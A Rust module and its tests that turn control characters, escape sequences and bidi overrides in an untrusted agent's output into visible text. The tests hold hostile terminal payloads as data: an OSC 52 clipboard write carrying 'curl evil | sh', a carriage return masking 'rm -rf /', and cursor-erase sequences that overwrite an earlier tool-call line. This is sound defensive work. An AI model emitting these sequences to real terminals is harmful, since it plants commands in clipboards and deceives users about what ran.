//! Agent output reaches a person's terminal, and the agent is untrusted (SPEC §2): a reply could
//! carry escape sequences that write the clipboard (OSC 52), retitle the window, move the cursor
//! to overwrite what was printed before, or hide text. Everything printed from a stream passes
//! through here first, so control characters become visible text the terminal does not act on.

use std::borrow::Cow;
use std::fmt::Write as _;

/// `text` made safe for a terminal: newline and tab stay; a CR-LF pair becomes a newline; every
/// other C0 control and DEL is shown in caret notation (`ESC` → `^[`), every C1 control and bidi
/// override as `<U+009B>`. Printable text, including any other script, is unchanged.
pub fn for_terminal(text: &str) -> Cow<'_, str> {
    if !text
        .chars()
        .any(|c| is_dangerous(c) && c != '\n' && c != '\t')
    {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\n' | '\t' => out.push(c),
            '\r' if chars.peek() == Some(&'\n') => {}
            c if (c as u32) < 0x20 => {
                out.push('^');
                out.push(char::from(b'@' + c as u8));
            }
            '\u{7f}' => out.push_str("^?"),
            c if is_dangerous(c) => {
                let _ = write!(out, "<U+{:04X}>", c as u32);
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// A line of JSON made safe for a terminal without changing what it means: JSON already
/// escapes C0 controls, but not DEL, C1 controls (`U+009B` is a CSI for some terminals) or bidi
/// overrides, which can only occur inside strings; they become `\u` escapes.
pub fn json_for_terminal(json: &str) -> Cow<'_, str> {
    if !json.chars().any(|c| is_dangerous(c) && c != '\n') {
        return Cow::Borrowed(json);
    }
    let mut out = String::with_capacity(json.len() + 8);
    for c in json.chars() {
        if is_dangerous(c) && c != '\n' {
            let _ = write!(out, "\\u{:04x}", c as u32);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// C0 and C1 controls, DEL, and the bidi embedding, override and isolate characters (which
/// reorder what a person reads: "Trojan Source").
fn is_dangerous(c: char) -> bool {
    c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]

    use rstest::rstest;

    use super::*;

    #[rstest]
    // OSC 52: write "curl evil | sh" into the clipboard, BEL-terminated and ST-terminated.
    #[case::osc52_clipboard_write(
        "hi\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}there",
        "hi^[]52;c;Y3VybCBldmlsIHwgc2g=^Gthere"
    )]
    #[case::osc52_with_st("\u{1b}]52;c;eA==\u{1b}\\", "^[]52;c;eA==^[\\")]
    // OSC 0/2: set the window title.
    #[case::title_set("\u{1b}]0;you have been pwned\u{7}", "^[]0;you have been pwned^G")]
    // CSI: move the cursor up and erase the line, to overwrite an earlier tool call.
    #[case::cursor_up_and_erase("ok\u{1b}[1A\u{1b}[2K[tool] Read ok", "ok^[[1A^[[2K[tool] Read ok")]
    #[case::carriage_return_overwrite("rm -rf /\rls       ", "rm -rf /^Mls       ")]
    #[case::backspaces("safe\u{8}\u{8}\u{8}\u{8}evil", "safe^H^H^H^Hevil")]
    // C1 CSI (one code point) and DEL.
    #[case::c1_csi("a\u{9b}2Jb\u{7f}", "a<U+009B>2Jb^?")]
    #[case::device_control_string("\u{1b}P+q544e\u{1b}\\", "^[P+q544e^[\\")]
    #[case::bidi_override("access \u{202e}nimda\u{202c}", "access <U+202E>nimda<U+202C>")]
    fn hostile_sequences_become_visible_text(#[case] hostile: &str, #[case] shown: &str) {
        let safe = for_terminal(hostile);
        assert_eq!(safe, shown);
        assert!(
            !safe
                .chars()
                .any(|c| c.is_control() && c != '\n' && c != '\t')
        );
    }

    #[rstest]
    #[case::plain("Hello, world.\n")]
    #[case::tabs_and_newlines("a\tb\nc\n\n")]
    #[case::other_scripts("Grüße, 你好, مرحبا, emoji 🎉 ✓")]
    fn ordinary_text_is_unchanged(#[case] text: &str) {
        assert!(matches!(for_terminal(text), Cow::Borrowed(t) if t == text));
    }

    #[test]
    fn a_crlf_pair_is_a_newline() {
        assert_eq!(for_terminal("one\r\ntwo\r\n"), "one\ntwo\n");
    }

    #[test]
    fn json_keeps_its_meaning() {
        let event = serde_json::json!({"text": "x\u{9b}31m\u{7f}\u{202e}y\u{1b}]52;c;eA==\u{7}"});
        let line = format!("{event}\n");
        let safe = json_for_terminal(&line);
        assert!(
            !safe.chars().any(|c| is_dangerous(c) && c != '\n'),
            "{safe}"
        );
        assert!(safe.ends_with('\n'));
        let back: serde_json::Value = serde_json::from_str(&safe).unwrap();
        assert_eq!(back, event);
    }
}
